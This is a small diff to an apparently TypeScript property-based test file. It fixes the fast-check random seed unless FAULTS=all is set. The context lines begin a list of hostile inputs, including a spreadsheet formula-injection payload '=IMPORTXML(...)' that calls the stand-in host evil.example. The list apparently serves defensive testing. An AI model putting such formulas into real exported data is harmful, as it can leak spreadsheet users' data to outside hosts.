@@ -35,6 +35,9 @@ const textsIn = (value: unknown): string[] =>
       ? Object.values(value).flatMap(textsIn)
       : [];
 
+// A usual run tries the same cases each time, so that what fails has to do with the change; `FAULTS=all` tries others every time.
+if (process.env.FAULTS !== 'all') fc.configureGlobal({ seed: 20261127 });
+
 const NASTY = [
   '=1+1',
   '=IMPORTXML("https://evil.example";"//a")',
